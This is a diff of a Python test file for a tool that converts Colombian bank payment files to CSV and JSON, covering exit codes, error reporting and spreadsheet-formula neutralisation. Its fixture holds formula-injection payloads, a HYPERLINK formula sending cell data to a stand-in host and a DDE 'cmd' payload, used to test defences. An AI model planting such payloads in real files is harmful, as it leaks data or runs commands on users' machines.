@@ -185,14 +185,81 @@ def test_unreadable_content_prints_the_findings(run: Any, tmp_path: Path, exampl
     lines[2] = lines[2][:60] + b"X" + lines[2][61:]  # a letter in valor_recaudado (51-64)
     source.write_bytes(b"\n".join(lines))
     r = run("convert", source, "--to", "json")
-    assert (r.code, r.out) == (1, "")
+    assert (r.code, r.out) == (4, "")
     assert r.err == (
         f"{source}:3:51: error: PR101 valor_recaudado: "
-        "valor_recaudado must hold digits only: '0000000854X000'\n"
+        "valor_recaudado must hold digits only, found '0000000854X000'\n"  # validate's words
     )
 
 
 def test_forced_format_that_does_not_fit(run: Any, example: Path) -> None:
     r = run("convert", example, "--to", "csv", "--format", "andesco")
-    assert (r.code, r.out) == (1, "")
+    assert (r.code, r.out) == (4, "")
     assert r.err.startswith(f"{example}:1:")
+
+
+def test_a_readable_file_with_errors_is_converted_with_its_errors_and_exit_1(
+    run: Any, tmp_path: Path, real_dir: Path
+) -> None:
+    """convert writes what the file says, and says the file is not valid."""
+    path = real_dir / "asobancaria2001-davivienda-bad-controls.txt"
+    r = run("convert", path, "--to", "csv")
+    assert r.code == 1
+    assert r.out.splitlines()[1:] == [
+        "3,06,000000000000000000000000000000000000000000007782,996831.00,01,01,839411,318104,051,3332,2,",
+        "4,06,000000000000000000000000000000000000000000006518,0.00,01,01,839452,825457,051,3332,3,",
+    ]
+    assert r.err.splitlines()[0] == (
+        f"{path}:5:3: error: PR301 total_registros_lote: total_registros_lote says 4 records, but "
+        "there are 2"
+    )
+    assert len(r.err.splitlines()) == 4  # errors only: the warnings are validate's to list
+    out = tmp_path / "out.json"
+    r = run("convert", path, "--to", "json", "-o", out)
+    assert (r.code, r.out) == (1, "")
+    assert len(json.loads(out.read_text("utf-8"))["records"]) == 6
+
+
+# -- cells a spreadsheet would run -------------------------------------------------------------
+FORMULAS = {  # field: (columns of a pse-detail type-2 line, value)
+    "cuenta_credito": ((57, 17), "-2+3"),
+    "codigo_autorizacion": ((110, 50), '=HYPERLINK("http://x.example/?"&A1,"pay")'),
+    "referencia_1": ((160, 20), "=1+2"),
+    "referencia_2": ((180, 20), "@SUM(A1)"),
+    "referencia_3": ((200, 20), "+cmd|' /C calc'!A0"),
+}
+
+
+@pytest.fixture
+def formulas(tmp_path: Path, pse_detail_file: Path) -> Path:
+    lines = pse_detail_file.read_bytes().split(b"\n")
+    line = lines[1]
+    for (start, length), value in FORMULAS.values():
+        line = line[: start - 1] + value.encode("ascii").ljust(length) + line[start - 1 + length :]
+    lines[1] = line
+    source = tmp_path / "formulas.txt"
+    source.write_bytes(b"\n".join(lines))
+    return source
+
+
+def test_csv_neutralises_formulas_in_text_cells(run: Any, formulas: Path) -> None:
+    r = run("convert", formulas, "--to", "csv")
+    assert (r.code, r.err) == (0, "")
+    rows = list(csv.DictReader(io.StringIO(r.out)))
+    assert {name: rows[0][name] for name in FORMULAS} == {
+        name: "'" + value for name, ((_, _), value) in FORMULAS.items()
+    }
+    assert (rows[0]["valor_transaccion"], rows[0]["fecha_proceso"]) == ("100000.00", "2026-11-20")
+    assert rows[1]["referencia_1"] == ""  # untouched where there is nothing to neutralise
+    json_fields = json.loads(run("convert", formulas, "--to", "json").out)["records"][1]["fields"]
+    assert {name: json_fields[name] for name in FORMULAS} == {
+        name: value for name, ((_, _), value) in FORMULAS.items()  # JSON is no spreadsheet
+    }
+
+
+def test_raw_cells_keeps_them(run: Any, formulas: Path) -> None:
+    r = run("convert", formulas, "--to", "csv", "--raw-cells")
+    rows = list(csv.DictReader(io.StringIO(r.out)))
+    assert {name: rows[0][name] for name in FORMULAS} == {
+        name: value for name, ((_, _), value) in FORMULAS.items()
+    }
